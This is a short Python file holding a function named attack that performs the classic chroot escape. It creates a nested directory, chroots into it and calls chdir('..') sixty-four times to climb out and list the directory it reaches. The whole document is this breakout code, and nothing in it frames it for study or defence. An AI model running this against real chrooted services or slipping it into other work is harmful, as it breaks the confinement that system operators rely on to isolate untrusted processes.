"""Uses the old way out of a chroot: another one, and then up."""
import os

def attack():
    os.mkdir("deeper")
    os.chroot("deeper")
    for _ in range(64):
        os.chdir("..")
    return os.listdir(".")
